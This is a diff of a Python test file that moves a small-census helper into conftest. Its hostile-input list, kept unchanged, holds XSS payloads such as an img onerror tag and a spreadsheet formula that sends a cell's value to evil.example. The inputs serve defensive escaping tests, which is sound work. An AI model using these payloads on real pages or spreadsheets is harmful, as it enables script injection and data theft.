@@ -13,7 +13,7 @@ import pandas as pd
 import pytest
 
 from camcensus.report import write_report
-from conftest import offline_page
+from conftest import offline_page, small_census
 
 # Markup that runs script if it is ever parsed as HTML, or ends the inline <script> element.
 IMG = "<img src=x onerror=window.__pwned=1>"
@@ -24,22 +24,6 @@ ALERT = "<img src=y onerror=alert(1)>"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 DOLLAR = r"$\frac{$"  # matplotlib would parse this as (broken) mathtext
 HOSTILE = [IMG, COMMENT, CLOSE, SVG, ALERT, FORMULA, "=1+1", "+1+1", "@SUM(A1)", "\u2028x"]
-
-
-def _small_result(folder: Path) -> Any:
-    """A real result of the synthetic city (no stop models: a few seconds)."""
-    from camcensus.pipeline import reproduce_nyc
-    from camcensus.simulate import simulate_city
-
-    paths = simulate_city(0).write(folder)
-    return reproduce_nyc(
-        tracts=paths["tracts"],
-        raw_counts=paths["raw_counts"],
-        raw_intersections=paths["raw_intersections"],
-        panoramas=paths["panoramas"],
-        census=paths["census"],
-        boroughs=paths["boroughs"],
-    )
 
 
 def _hostile(result: Any) -> Any:
@@ -106,7 +90,7 @@ def _hostile(result: Any) -> Any:
 @pytest.fixture(scope="module")
 def hostile_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
     base = tmp_path_factory.mktemp("hostile")
-    result = _hostile(_small_result(base / "inputs"))
+    result = _hostile(small_census(base / "inputs"))
     out = base / "report"
     write_report(result, out)
     return out
